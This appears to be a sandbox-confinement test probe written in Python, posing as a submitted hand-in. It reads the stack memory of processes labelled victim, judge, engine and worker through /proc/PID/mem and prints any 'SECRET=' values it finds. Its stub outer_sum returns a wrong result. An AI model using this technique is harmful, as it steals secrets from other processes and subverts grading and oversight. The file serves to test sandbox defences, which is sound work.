"""Reads another process's memory from /proc/PID/mem, at the addresses that /proc/PID/maps gives.

Family: D32
Only when confined: where Yama is on, the kernel refuses it too.
Refused as failed: there is no /proc where the hand-in runs.
"""

import re
from pathlib import Path

TARGETS = {}

for who in ("victim", "judge", "engine", "worker"):
    try:
        maps = Path(f"/proc/{TARGETS[who]}/maps").read_text()
        start, end = (int(number, 16) for number in re.search(r"(\w+)-(\w+) .*\[stack\]", maps).groups())
        with open(f"/proc/{TARGETS[who]}/mem", "rb", buffering=0) as memory:
            memory.seek(start)
            stack = memory.read(end - start)
        print("THROUGH", who, stack[stack.find(b"SECRET=") :][:50])
    except (OSError, AttributeError) as error:
        print(who, error)


def outer_sum(a, b):
    return a
